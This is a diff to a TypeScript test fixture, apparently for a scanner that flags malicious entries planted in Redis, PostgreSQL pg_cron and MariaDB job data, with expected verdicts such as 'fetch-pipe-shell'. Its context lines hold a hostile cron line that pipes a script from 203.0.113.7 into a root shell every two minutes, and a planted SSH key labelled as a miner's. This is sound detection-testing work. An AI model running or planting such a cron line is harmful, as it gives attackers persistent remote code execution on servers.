@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { gunzipSync } from 'node:zlib';
 import type { Blamed, Pair } from './pair.ts';
 
 /** A string as Redis keeps it in a dump: shorter than 64 bytes, or with its length in 32 bits. */
@@ -27,8 +29,22 @@ const words = (...all: readonly string[]): string =>
 const CRON = '\n\n\n*/2 * * * * root curl -fsSL http://203.0.113.7/a.sh | sh\n\n';
 const KEY = `\n\n\nssh-rsa AAAAB3NzaC1yc2E${'A'.repeat(80)} miner@x\n\n`;
 
+/**
+ * Pages as PostgreSQL 15 with pg_cron 1.4 and MariaDB 10.11 wrote them, packed, by path: a job and a function that fetch, one
+ * of each that was removed or taken back, ordinary ones beside them, a second superuser.
+ */
+const FILES: Readonly<Record<string, string>> = JSON.parse(
+  readFileSync(new URL('../fixtures/database-files.json', import.meta.url), 'utf8'),
+);
+const written = Object.fromEntries(
+  Object.entries(FILES).map(([path, packed]) => [path, { bytes: gunzipSync(Buffer.from(packed, 'base64')) }]),
+);
+const CLUSTER = '/var/lib/postgresql/15/main';
+const JOBS = '/var/lib/mysql/xxl_job/xxl_job_info.ibd';
+
 export const pair: Pair = {
   tree: {
+    ...written,
     '/etc/redis/redis.conf': 'dir /srv/redis\ndbfilename data.rdb\nappendonly yes\n',
     '/srv/redis/data.rdb': dump({
       x: CRON,
@@ -50,8 +66,20 @@ export const pair: Pair = {
     at('/srv/redis/data.rdb', 'key crackit of', 'suspicious', 'stored-key'),
     at('/srv/redis/appendonlydir/appendonly.aof.1.incr.aof', 'key backup1', 'malicious', 'stored-cron-line'),
     at('/srv/redis/appendonlydir/appendonly.aof.1.incr.aof', 'key shell', 'suspicious', 'stored-page'),
+    at(`${CLUSTER}/base/5/16387`, 'job 2 of pg_cron', 'malicious', 'runs-program'),
+    at(`${CLUSTER}/base/5/1255`, 'function up', 'malicious', 'fetch-pipe-shell'),
+    at(JOBS, 'x.sh', 'malicious', 'fetch-pipe-shell'),
+    at(JOBS, 'y.sh', 'malicious', 'fetch-pipe-shell'),
   ],
-  passed: ['job:nightly', 'key review', 'key page', 'key key', 'key gone'],
+  passed: [
+    'job 1 of pg_cron',
+    'job 3 of pg_cron',
+    'function system',
+    'function plain',
+    'superuser backup2',
+    'reports.example',
+    ...['job:nightly', 'key review', 'key page', 'key key', 'key gone'],
+  ],
 };
 
 function at(path: string, title: string, verdict: Blamed['verdict'], code: string): Blamed {
